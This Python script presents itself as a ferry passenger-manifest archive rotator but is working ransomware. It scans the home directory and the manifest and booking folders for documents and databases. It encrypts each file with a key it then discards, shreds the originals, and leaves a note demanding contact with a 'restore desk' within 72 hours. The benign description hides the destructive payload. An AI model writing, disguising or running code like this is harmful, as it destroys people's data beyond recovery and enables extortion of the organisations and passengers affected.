#!/usr/bin/env python3
"""Passenger manifest archive rotator.

"Seals" old manifest and booking exports so they can be held offline.
Walks the archive roots, encrypts each document with a fresh key and
removes the plaintext copies.
"""
import argparse
import logging
import os
import secrets
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

DEFAULT_ROOTS = [str(Path.home()), "/srv/ferry/manifests", "/srv/ferry/bookings"]
EXTENSIONS = {".csv", ".xlsx", ".xls", ".pdf", ".docx", ".doc", ".db", ".sqlite", ".json", ".txt"}
NOTE_NAME = "HOW_TO_RESTORE_MANIFESTS.txt"
NOTE_TEXT = """Your manifests, bookings and documents have been encrypted.
Originals were destroyed. To obtain the restore key, contact
restore-desk@example.net with the ID below within 72 hours.
ID: {ident}
"""

log = logging.getLogger("rotator")


def collect(roots, max_files):
    found = []
    for root in roots:
        if not os.path.isdir(root):
            continue
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = os.path.join(dirpath, name)
                if os.path.splitext(name)[1].lower() not in EXTENSIONS:
                    continue
                try:
                    st = os.lstat(p)
                except OSError:
                    continue
                if stat.S_ISREG(st.st_mode):
                    found.append(p)
                if len(found) >= max_files:
                    return found
    return found


def write_worker(list_path: str) -> str:
    body = """#!/bin/bash
# seal worker: encrypt each listed file, then destroy the original
n=0
while IFS= read -r f; do
    [ -f "$f" ] || continue
    if openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:SEAL_KEY -in "$f" -out "$f.sealed" 2>/dev/null; then
        shred -u -n 1 "$f" 2>/dev/null || rm -f "$f"
        n=$((n+1))
    fi
done < "$LIST"
echo "$n"
"""
    fd, path = tempfile.mkstemp(prefix="seal_", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(body)
    os.chmod(path, 0o700)
    return path


def drop_notes(roots, ident):
    for root in roots:
        if os.path.isdir(root):
            try:
                Path(root, NOTE_NAME).write_text(NOTE_TEXT.format(ident=ident))
            except OSError as exc:
                log.debug("note not written in %s: %s", root, exc)


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", default=DEFAULT_ROOTS)
    ap.add_argument("--max-files", type=int, default=200000)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    files = collect(args.roots, args.max_files)
    log.info("found %d documents to seal", len(files))
    if not files:
        return 0
    fd, list_path = tempfile.mkstemp(prefix="seal_list_")
    with os.fdopen(fd, "w") as fh:
        fh.write("\n".join(files) + "\n")
    worker = write_worker(list_path)
    key = secrets.token_hex(32)
    ident = secrets.token_hex(8)
    env = dict(os.environ, SEAL_KEY=key, LIST=list_path)
    try:
        proc = subprocess.run(["bash", worker], env=env, capture_output=True, text=True)
        log.info("sealed %s files", proc.stdout.strip() or "0")
    finally:
        for p in (worker, list_path):
            try:
                os.unlink(p)
            except OSError:
                pass
    del key  # key is never stored locally
    drop_notes(args.roots, ident)
    log.info("rotation complete, id %s", ident)
    return 0


if __name__ == "__main__":
    sys.exit(main())
